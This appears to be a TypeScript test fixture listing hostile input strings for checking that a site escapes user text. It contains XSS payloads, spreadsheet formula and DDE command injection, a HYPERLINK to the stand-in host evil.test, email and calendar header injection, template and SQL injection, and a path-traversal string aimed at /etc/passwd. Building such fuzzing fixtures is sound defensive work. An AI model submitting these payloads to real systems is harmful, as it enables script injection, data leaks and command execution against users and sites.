/** The function that a hostile text calls when it runs. Every hostile text contains the name. */
export const alarm = 'hx7f3a'

/** A foreign host. Nothing that leaves the site may link to it, or be sent there. */
export const evilHost = 'evil.test'

/**
 * Texts with a meaning for programs that may read them later. The first one is tried in every field, the others by turns.
 */
export const hostileTexts: string[] = [
  `"'><img src=x onerror=${alarm}()><script>${alarm}()</script>`,
  `</script></style></title></textarea><svg/onload=${alarm}()><script>${alarm}()//`,
  `[${alarm}](javascript:${alarm}()) <javascript:${alarm}()> ![x](x" onerror="${alarm}())`,
  `[${alarm}](data:text/html;base64,PHNjcmlwdD4=) [a](vbscript:${alarm}()) [b](\\x01javascript:${alarm}())`,
  `&lt;img src=x onerror=${alarm}()&gt; &#x3c;script&#x3e;${alarm}()&#x3c;/script&#x3e; %3Cscript%3E`,
  `=HYPERLINK("https://${evilHost}/${alarm}","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0 ${alarm}`,
  `-2+3+cmd|' /C ${alarm}'!A0`,
  `+${alarm}`,
  `=?utf-8?Q?${alarm}=0D=0ABcc:_all=40${evilHost}?= <all@${evilHost}>, all@${evilHost}`,
  `${alarm}\\nATTENDEE:mailto:all@${evilHost}\\nEND:VEVENT\\,;:"`,
  `{{constructor.constructor('${alarm}()')()}} \${${alarm}()} <%= ${alarm}() %> #{${alarm}} {%x%} $& $1 $\``,
  `${alarm} __proto__ constructor toString ../../etc/passwd %00 %0d%0a ' or 1=1 --`,
  `${alarm}${'W'.repeat(5000)}`,
  `${alarm}\u2028\u2029\u200b\u00ad\ufeff\u200f مرحبا 👩🏾‍💻 ﷽ Z̷̢̛͎a̷l̶g̸o`,
]

/** The same with several lines. */
export const hostileLines: string[] = [
  `${alarm}\r\nBcc: all@${evilHost}\r\nContent-Type: text/html\r\n\r\n<script>${alarm}()</script>`,
  `${alarm}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:${alarm}\r\nATTENDEE:mailto:all@${evilHost}`,
  `- ${alarm}\n\n\`\`\`html\n<script>${alarm}()</script>\n\`\`\`\n\n[x]: javascript:${alarm}()\n\n[x] <!-- ]]>`,
  `${'> '.repeat(200)}${'['.repeat(400)}${alarm}${'](javascript:x)'.repeat(40)}${'*_'.repeat(300)}`,
  `\u202e${alarm}\u2067\n.\n--\n"a","b"\n\t=1+1`,
]

/** The path of an address that is valid, with hostile text in it. */
const hostilePath = `"'><img/src=x/onerror=${alarm}()>?a=%22#javascript:${alarm}()`
export const hostileAddress = `https://www.${evilHost}/${hostilePath}`

/** The same for fields that require a LinkedIn address. */
export const hostileLinkedin = `https://www.linkedin.com/in/${hostilePath}`

/** Characters that no text may contain. */
export const forbiddenCharacters: string[] = ['\u0000', '\ud800', '\u001b[2J', '\u0007']
